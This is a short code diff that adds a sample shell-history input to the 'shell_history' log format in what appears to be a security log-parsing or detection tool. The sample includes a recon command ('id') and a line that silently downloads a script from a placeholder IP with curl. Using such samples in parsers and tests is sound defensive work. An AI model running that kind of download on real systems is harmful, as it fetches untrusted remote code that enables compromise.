@@ -128,7 +128,12 @@ const Format& shell_history_format() {
       "linux: shell_history (process_creation by mapping)",
       recognise,
       []() -> std::unique_ptr<Cutter> { return std::make_unique<HistoryCutter>(); },
-      [](const DecodeOptions&) -> std::unique_ptr<Decoder> { return std::make_unique<HistoryDecoder>(); }};
+      [](const DecodeOptions&) -> std::unique_ptr<Decoder> { return std::make_unique<HistoryDecoder>(); },
+      nullptr,
+      "#1795507200\n"
+      "id\n"
+      "#1795507210\n"
+      "curl -s http://192.0.2.9/x.sh\n"};
   return kFormat;
 }
 
